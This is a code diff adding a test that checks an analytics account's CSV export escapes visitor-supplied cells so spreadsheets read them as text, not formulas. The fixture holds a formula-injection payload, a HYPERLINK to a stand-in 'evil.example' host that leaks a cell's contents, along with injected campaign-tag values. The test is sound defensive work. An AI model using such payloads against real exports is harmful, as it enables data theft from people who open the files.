@@ -22,7 +22,7 @@ from ot.privacy import IpPolicy
 from tests import support
 from tests.rights_support import ALICE, BOB, admin, audit_actions, visit
 from tests.stats_support import goal, token_for
-from tests.support import bearer, error_of, logged_in
+from tests.support import bearer, error_of, event, logged_in
 
 
 def _unzip(data: bytes) -> tuple[dict[str, Any], dict[str, list[dict[str, str]]]]:
@@ -68,6 +68,27 @@ async def test_customers_can_export_everything_we_hold_about_their_account(
     rows = hits[site["hits_file"]]
     assert sorted(row["ip"] for row in rows) == [ALICE.ip, BOB.ip]
     assert {row["pathname"] for row in rows} == {"/"}
+
+
+async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    client: TestClient, settings: Settings, site: Site
+) -> None:
+    """Event names and campaign tags come from visitors' browsers; opened in a spreadsheet, a
+    cell like `=HYPERLINK(...)` would run."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    await support.store_hits(
+        client,
+        [event(name=formula, url="https://shop.example/?utm_campaign=-2%2B3&utm_source=@evil")],
+    )
+    started = await logged_in(settings, site.account_id)
+
+    response = await client.post("/ot/v1/account/export", headers=bearer(started.token))
+
+    _, hits = _unzip(await response.read())
+    [row] = hits[f"hits/site-{site.id}.csv"]
+    assert row["name"] == "'" + formula
+    assert row["utm_campaign"] == "'-2+3" and row["utm_source"] == "'@evil"
+    assert row["site_id"] == str(site.id) and row["pathname"] == "/"
 
 
 async def test_an_export_never_holds_a_token_or_password_hash(
